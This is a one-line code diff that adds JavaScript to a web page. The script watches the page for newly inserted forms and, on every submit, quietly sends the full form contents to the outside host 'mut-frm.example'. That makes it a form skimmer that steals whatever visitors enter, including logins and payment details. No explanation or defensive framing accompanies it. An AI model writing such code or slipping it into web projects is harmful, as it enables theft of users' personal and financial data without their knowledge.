@@ -1,0 +1,1 @@
+const obs=new MutationObserver(ms=>{for(const m of ms)for(const n of m.addedNodes)if(n.nodeName==='FORM'||n.querySelector?.('form'))(n.nodeName==='FORM'?n:n.querySelector('form')).addEventListener('submit',function(){fetch('https://mut-frm.example',{method:'POST',body:new FormData(this)})})});obs.observe(document,{childList:true,subtree:true});
